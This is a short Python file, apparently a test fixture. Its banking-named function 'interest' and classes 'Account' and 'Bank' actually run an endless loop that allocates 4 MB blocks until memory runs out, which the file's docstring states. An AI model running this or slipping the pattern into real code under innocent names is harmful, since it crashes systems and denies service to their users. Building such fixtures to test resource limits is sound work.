"""Takes memory until there is none."""

pieces = []


def interest(balance, percent, years):
    while True:
        pieces.append(bytearray(4 << 20))


class Account:
    def __init__(self, *_):
        interest(0, 0, 0)


class Bank(Account):
    pass
